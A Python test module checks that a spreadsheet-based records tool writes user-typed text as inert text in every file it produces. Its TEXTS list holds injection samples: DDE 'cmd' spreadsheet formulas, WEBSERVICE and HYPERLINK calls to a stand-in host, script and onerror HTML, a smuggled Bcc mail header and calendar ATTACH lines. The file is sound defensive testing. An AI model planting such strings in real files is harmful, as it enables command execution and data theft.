"""Texts that want to be formulas, links or tags in every text column that people fill in, and then every file that Genjin writes.

Each of the texts holds a word that nothing else holds: where that word comes out, it is text.
"""

import csv
import email
import email.policy
import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from html.parser import HTMLParser
from itertools import cycle
from pathlib import Path

import pytest
from icalendar import Calendar

from macros.inspecting import concerns_in
from tests.commands import genjin
from tests.posting import put, setting, tables_of
from workbook.schema import Kind, Need
from workbook.sheets import BY_KEY, SHEETS
from workbook.tables import Tables

WORD = "Zqx"
TEXTS = (
    f"=cmd|' /C {WORD}'!A0", f'=HYPERLINK("http://x/{WORD}?"&A1,"点")', f"@SUM({WORD})", f"+1+{WORD}(1)", f"-2+3+cmd|'{WORD}'!A0", f"\t=1+{WORD}",
    f"＝{WORD}()", f'{{=WEBSERVICE("http://x/{WORD}")}}', f"javascript:{WORD}()", f"file://server/{WORD}", f"\\\\server\\{WORD}\\x.exe",
    f"<a href=javascript:{WORD}>", f"<img src=x onerror={WORD}()>", f"<script>{WORD}</script>", f'" onmouseover="{WORD}()',
    f"mailto:a@b.cn?attach={WORD}",
    f'","x")&WEBSERVICE("http://x/{WORD}")&"', f"a@b.cn\nBcc: {WORD}@b.cn", f"\nURL:http://x/{WORD}\nATTACH:x", f"ms-excel:ofe|u|http://x/{WORD}",
    f"]]>{WORD}<![CDATA[", f"{{{{ {WORD} }}}}", f"{{% for {WORD} in x %}}", f"=1+{WORD}\"'", f"%0A=1+{WORD}",
    f"</para><b>{WORD}</b>", f'<img src="file:///etc/{WORD}"/>', f'<link href="http://x/{WORD}">x</link>', f"mailto:a@b.cn?attach=x!{WORD}",
    f"https://x/{WORD}!A1", f"&lt;b&gt;{WORD}&#60;",
)  # fmt: skip
MAILED = 8
TYPED = [
    "clients",
    "requests",
    "listings",
    "owners",
    "followups",
    "viewings",
    "tasks",
    "deals",
    "staff",
    "complaints",
    "referrals",
    "contracts",
    "surveys",
    "events",
    "attendance",
    "improvements",
]
HARMLESS = {"FORMULA_TEXT", "VBA_OURS", "INVISIBLE_CHARS", "CONTROL_CHARS"}
KEPT = {("staff", "name"), ("staff", "branch"), ("clients", "owner"), ("events", "name"), ("events", "clock")}
"""Names that other cells refer to: those of people, tests/test_hostile_names.py sees to."""
COMMANDS = ("lists", "calendar", "viewings", "commission", "eml", "awards")
HANDED = ("--purpose", "看", "--recipient", "店")
_FORMULA = re.compile(r"<f[\s>].*?</f>", re.DOTALL)
_CODES = re.compile(r"<(?:w:instrText|w:fldSimple|w:hyperlink|w:object)[\s>].*?(?:/>|</)", re.DOTALL)
_SAFE_LINK = re.compile(r"(?:#|tel:|mailto:|sms:|https://)[^\s\"'<>]*")


@pytest.fixture(scope="module")
def day(yesterday: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workbook with such texts in it after a whole day, and all that Genjin writes beside it."""
    book = Path(shutil.copy(yesterday, tmp_path_factory.mktemp("outputs") / "店.xlsx"))
    tables, texts = tables_of(book), cycle(TEXTS)
    cells: dict[tuple[str, int, str], object] = {}
    for key in TYPED:
        free = [
            column.key for column in BY_KEY[key].columns
            if column.kind in (Kind.TEXT, Kind.LINK) and column.need is not Need.AUTOMATIC and not column.lookup and (key, column.key) not in KEPT
        ]  # fmt: skip
        for row in list(map(int, tables[key].index))[: len(TEXTS)]:
            cells |= {(key, row, column): next(texts) for column in free if column in tables.layouts[key].columns}
    assert len(cells) > 20 * len(TEXTS)
    put(book, cells | letters(tables))
    return book


def letters(tables: Tables) -> dict[tuple[str, int, str], object]:
    """Return the cells that make a mail of some of the texts that are ready."""
    told = {"host": "127.0.0.1", "port": 9, "security": "不加密", "sender": "service@example.com"}
    cells: dict[tuple[str, int, str], object] = {setting(tables, f"mail.{key}"): value for key, value in told.items()}
    clients, texts = tables["clients"], tables["messages"]
    ready = texts.loc[texts["status"] == "可发"].drop_duplicates("client_id").head(MAILED)
    rows = clients.index[clients["client_id"].isin(ready["client_id"])]
    for row in map(int, rows):
        cells |= {("clients", row, "pref_channel"): "邮件", ("clients", row, "email"): "a@example.com"}
        cells |= {("clients", row, key): TEXTS[row % 8] for key in ("name", "salutation")}
    return cells


def tick(book: Path) -> None:
    texts = tables_of(book)["messages"]
    ready = texts.index[(texts["status"] == "可发") & (texts["channel"] == "邮件")]
    put(book, {("messages", int(row), "mail"): "是" for row in ready})


@pytest.fixture(scope="module")
def written(day: Path) -> Path:
    """The folder after every command that writes a file."""
    from macros.cli import main

    assert main(["all", str(day), "--today", "2026-11-20", "--quiet"]) in (0, 1)
    tick(day)
    for command in COMMANDS:
        assert main([command, str(day), "--today", "2026-11-20", "--quiet"]) in (0, 1), command
    clients = tables_of(day)["clients"]
    rows, first = f"客户!{','.join(map(str, clients.index[:8]))}", clients["client_id"].iloc[0]
    for command, *flags in (
        ("report", "--of", "全部"), ("proposal", "--rows", rows), ("portrait", "--rows", rows), ("holdings", "--client", first),
        ("holdings", "--client", first, "--to", "资料.xlsx"), ("export", *HANDED, "--to", "客户.xlsx"), ("export", *HANDED, "--to", "客户.csv"),
        ("export", *HANDED, "--to", "房源.csv", "--sheet", "房源"),
    ):  # fmt: skip
        flags = [str(day.parent / flag) if flag.startswith(("资料", "客户.", "房源.")) else flag for flag in flags]
        assert main([command, str(day), *flags, "--today", "2026-11-20", "--quiet"]) in (0, 1), (command, flags)
    merged(day, main)
    return day.parent


def merged(book: Path, main: Callable[[list[str]], int]) -> None:
    """Have somebody else and the owner of the workbook type such texts into the same cells."""
    tables, texts = tables_of(book), cycle(TEXTS)
    who = tables["clients"]["owner"].iloc[0]
    assert main(["split", str(book), "--who", who, "--today", "2026-11-20", "--quiet"]) == 0
    (theirs,) = book.with_name("店-分发").iterdir()
    for path in (theirs, book):
        mine = tables_of(path)["clients"]
        rows = mine.index[mine["owner"] == who][:4]
        put(path, {("clients", int(row), key): next(texts) for row in rows for key in ("remark", "family")})
    assert main(["merge", str(book), str(theirs), "--today", "2026-11-20", "--quiet"]) == 0
    assert len(tables_of(book)["conflicts"]) >= 4


pytestmark = pytest.mark.slow


def files(folder: Path, suffix: str) -> list[Path]:
    found = sorted(folder.rglob(f"*{suffix}"))
    assert found, suffix
    return found


def relations_of(package: zipfile.ZipFile) -> list[str]:
    parts = [package.read(name).decode() for name in package.namelist() if name.endswith(".rels")]
    return re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', "".join(parts))


@pytest.mark.requirement("R5")
def test_the_workbook_holds_them_as_texts(written: Path) -> None:
    ours = [path for path in files(written, ".xlsx") if not path.relative_to(written).parts[0].endswith(".genjin")]
    held = {path.relative_to(written).as_posix(): no_formula(path) for path in ours}
    assert held["店.xlsx"] > 20 * len(TEXTS)
    assert min(held.values()) > 0, held
    assert {"资料.xlsx", "客户.xlsx"} < held.keys()
    assert len(held) == 4  # and what was split off


def no_formula(book: Path) -> int:
    """Hold a workbook against what a text may become in it, and return how often such texts stand there."""
    with zipfile.ZipFile(book) as package:
        sheets = [package.read(name).decode() for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
        rest = [package.read(f"xl/{name}.xml").decode() for name in ("workbook", "sharedStrings")]
        assert not [link for link in relations_of(package) if WORD in link]
    assert not [one for sheet in sheets for one in _FORMULA.findall(sheet) if WORD in one], book.name
    assert not re.findall(rf"<(?:hyperlink|definedName|dataValidation)[^>]*{WORD}", "".join([*sheets, *rest]))
    return "".join([*sheets, *rest]).count(WORD)


def test_a_cell_that_may_become_a_link_is_never_one_that_a_person_types() -> None:
    """`to_cell` makes a link of what stands in these; each is the address of a cell, or made by macros/outbox/links.py."""
    links = {f"{sheet.key}.{c.key}" for sheet in SHEETS for c in sheet.columns if c.kind is Kind.LINK and c.automatic}
    assert links == {
        "due.link", "review.link", "messages.link", "findings.cell", "pairs.first_cell", "pairs.second_cell", "client_pairs.first_cell",
        "client_pairs.second_cell", "figure_rows.link", "handover.cells", "conflicts.cell", "whatif.link",
    }  # fmt: skip


def test_text_files_hold_them_as_texts(written: Path) -> None:
    for file in files(written, ".csv"):
        lines = list(csv.reader(file.read_text("utf-8-sig").splitlines(keepends=True)))
        assert {len(line) for line in lines} == {len(lines[0])}
        cells = [cell for line in lines for cell in line if WORD in cell]
        assert cells
        assert not [cell for cell in cells if cell.strip()[:1] in (*"=+-@＝＋－＠",) or cell[:1] in "\t\r\n"]


def test_nothing_in_the_workbook_would_run_or_reach_out(written: Path) -> None:
    assert {concern.code for concern in concerns_in(written / "店.xlsx")} <= HARMLESS


class Tags(HTMLParser):
    """Collects what a page makes of its text: tags, attributes and links."""

    def __init__(self) -> None:
        super().__init__()
        self.tags, self.attributes, self.links, self.scripts = set[str](), list[str](), list[str](), list[str]()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.append(name)
            if name in ("href", "src", "action", "xlink:href"):
                self.links.append(value or "")

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "script":
            self.scripts.append(data)


def test_pages_hold_them_as_texts(written: Path) -> None:
    seen = 0
    for page in files(written, ".html"):
        text = page.read_text("utf-8")
        seen += text.count(WORD)
        found = Tags()
        found.feed(text)
        assert not [name for name in found.attributes if name.startswith("on")], page.name
        links = [link for link in found.links if not link.startswith("data:image/")]
        assert all(_SAFE_LINK.fullmatch(link) and WORD not in link for link in links), page.name
        assert not [script for script in found.scripts if WORD in script], page.name
        assert not found.tags & {"iframe", "object", "embed", "base", "form"}, page.name
    assert seen


def test_calendars_hold_them_as_texts(written: Path) -> None:
    said = ""
    for file in files(written, ".ics"):
        for part in Calendar.from_ical(file.read_bytes()).walk():
            assert not {"URL", "ATTACH", "ATTENDEE", "ORGANIZER"} & {*part}, file.name
            said += f"{part.get('summary', '')}{part.get('description', '')}"
    assert WORD in said


def test_mails_hold_them_as_texts(written: Path) -> None:
    for file in files(written, ".eml"):
        letter = email.message_from_bytes(file.read_bytes(), policy=email.policy.default)
        assert not {"Bcc", "Cc", "URL", "ATTACH"} & {*letter.keys()}
        assert not list(letter.iter_attachments())
        page = letter.get_body(("html",))
        found = Tags()
        found.feed(str(page.get_content()) if page else "")
        assert found.links == []
        assert found.tags <= {"html", "head", "meta", "title", "body", "p", "br"}


def test_word_files_hold_them_as_texts(written: Path) -> None:
    seen = 0
    for file in files(written, ".docx"):
        with zipfile.ZipFile(io.BytesIO(file.read_bytes())) as package:
            document = package.read("word/document.xml").decode()
            assert not [link for link in relations_of(package) if WORD in link]
        assert not [code for code in _CODES.findall(document) if WORD in code]
        seen += document.count(WORD)
    assert seen


def test_pdf_files_have_no_links_and_no_actions(written: Path) -> None:
    kinds = dict.fromkeys(("置业方案", "客户画像", "推荐达人", "月报", "老带新", "流失分析", "活动效果"), 0)
    for file in files(written, ".pdf"):
        assert not re.search(rb"/(?:URI|JS|JavaScript|Launch|EmbeddedFile|Image)\b", file.read_bytes()), file.name
        kinds |= {kind: count + 1 for kind, count in kinds.items() if file.name.startswith(kind)}
    assert min(kinds.values()) > 0, kinds


def test_pdf_files_show_them_as_they_stand(written: Path) -> None:
    if not shutil.which("pdftotext"):
        pytest.skip("pdftotext is not installed")
    shown = ""
    for file in written.rglob("客户画像-*.pdf"):
        told = subprocess.run(["pdftotext", str(file), "-"], capture_output=True, check=True).stdout.decode()
        shown += re.sub(r"\s", "", told)
    assert f"</para><b>{WORD}</b>" in shown
    assert f'<imgsrc="file:///etc/{WORD}"/>' in shown


def test_every_file_stands_in_a_folder_beside_the_workbook(written: Path) -> None:
    for file in written.rglob("*"):
        assert file.resolve().is_relative_to(written.resolve())
        assert not re.search(r'[\\:*?"<>|\x00-\x1f]', file.name)
        assert len(f"{file.name}.part".encode()) <= 255
    assert {path.name for path in written.iterdir() if path.is_dir()} == {"店-报表", "店-导出", "店-分发", "店.genjin"}


def test_the_report_of_an_import_tells_of_them(
    tmp_path: Path, written: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = "\n".join(f"客户{n},1380000{n:04},{text}" for n, text in enumerate(TEXTS[:5]))
    (tmp_path / "名单.csv").write_text(f"姓名,电话,备注\n{rows.replace(chr(9), ' ')}\n".replace('"', ""), "utf-8")
    book = Path(shutil.copy(written / "店.xlsx", tmp_path / "店.xlsx"))
    answer = genjin(capsys, "import", tmp_path / "名单.csv", "--into", book, "--sheet", "客户")
    told = [one for item in answer["items"] for one in item["warnings"] if one["code"] == "FORMULA_TEXT"]
    assert [one["row"] for one in told] == [2, 3, 4, 5, 6]
